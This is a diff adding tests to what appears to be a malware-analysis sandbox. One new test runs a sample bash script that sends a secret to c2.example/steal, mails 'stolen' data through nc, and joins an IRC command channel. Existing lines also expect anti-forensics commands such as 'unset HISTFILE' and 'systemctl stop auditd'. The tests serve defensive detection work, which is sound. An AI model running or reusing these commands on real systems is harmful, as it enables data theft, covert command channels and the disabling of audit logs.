@@ -8,6 +8,7 @@ import { analyse, type ResultBody } from '../sandbox-runner/analyse.ts';
 import { loadEngine } from '../sandbox-runner/engine.ts';
 import { allEnvironments, openMachines } from '../sandbox-runner/machines/open.ts';
 import type { QemuMachines } from '../sandbox-runner/machines/qemu-machines.ts';
+import type { ObservedEvent } from '../schema/jobs.ts';
 import { typeSamples } from './samples/types.ts';
 
 const engine = await loadEngine();
@@ -56,6 +57,29 @@ describe('the environments', () => {
     expect(evidence).toContain('unset HISTFILE');
     expect(evidence).toContain('systemctl stop auditd');
   }, 120_000);
+  test('what a sample says over TLS, to a mail server and in a chat is heard', async () => {
+    const script = '#!/bin/bash\ncurl -sS https://c2.example/steal -d secret=1\nprintf "EHLO x\\r\\nMAIL FROM:<a@b.example>\\r\\nRCPT TO:<d@e.example>\\r\\nDATA\\r\\nSubject: stolen\\r\\n\\r\\nbody\\r\\n.\\r\\nQUIT\\r\\n" | nc -w 3 mail.example 25\n(printf "NICK bot\\r\\nUSER bot 0 * :x\\r\\n"; sleep 1; printf "JOIN #c2\\r\\n"; sleep 1) | nc -w 4 irc.example 6667\n';
+    const events: ObservedEvent[] = [];
+    await analyse(engine, machines, { fileName: 'talk.sh', runMsMax: 25_000, environment: null }, Buffer.from(script), (result) => {
+      if (result.kind === 'events') events.push(...result.events);
+      return Promise.resolve();
+    });
+    const told = events.filter((event) => event.kind === 'NETWORK').map((event) => event.fields);
+    expect(told).toContainEqual(expect.objectContaining({ 'c-uri': 'https://c2.example/steal', 'cs-method': 'POST', Tls: 'true', FirstBytes: expect.stringContaining('secret=1') as string }));
+    expect(told).toContainEqual(expect.objectContaining({ DestinationPort: '25', FirstBytes: expect.stringMatching(/RCPT TO:<d@e.example>[\s\S]*Subject: stolen[\s\S]*QUIT/) as string }));
+    expect(told).toContainEqual(expect.objectContaining({ DestinationPort: '6667', FirstBytes: expect.stringContaining('JOIN #c2') as string }));
+  }, 120_000);
+  test('processes are told of while they run', async () => {
+    const hints: string[] = [];
+    await analyse(engine, machines, { fileName: 'slow.sh', runMsMax: 25_000, environment: null }, Buffer.from('#!/bin/bash\nsleep 1.7\n'), () => Promise.resolve(), (hint) => hints.push(...(hint.processes ?? []).map((one) => one.commandLine)));
+    expect(hints).toContain('sleep 1.7');
+  }, 120_000);
+  test.each(['linux', 'windows-10', 'office'])('%s was checked for what gives it away, and says so', (environment) => {
+    const { passed, total, seen } = machines.evasion(environment)!;
+    expect(total).toBeGreaterThan(12);
+    expect(passed + seen.length).toBe(total);
+    for (const gone of ['dmi-strings', 'hypervisor-flag', 'documents', 'shell-history', 'our-files']) expect(seen.join('\n')).not.toContain(`${gone}:`);
+  });
   test('a document with macros that did nothing is not called executed', async () => {
     const { detonations } = await analysed('a.docm');
     expect(detonations[0]).toMatchObject({ environment: 'office', outcome: 'NOT_EXECUTED', limitations: expect.arrayContaining(['MACROS_NOT_SEEN_TO_RUN']) as string[] });
